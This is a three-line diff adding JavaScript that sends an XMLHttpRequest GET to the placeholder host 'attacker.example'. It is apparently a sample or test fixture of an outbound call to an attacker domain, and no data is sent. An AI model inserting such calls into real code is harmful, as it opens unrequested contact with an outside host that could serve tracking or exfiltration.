@@ -1,0 +1,3 @@
+const xhr = new XMLHttpRequest()
+xhr.open('GET', 'https://attacker.example/')
+xhr.send()
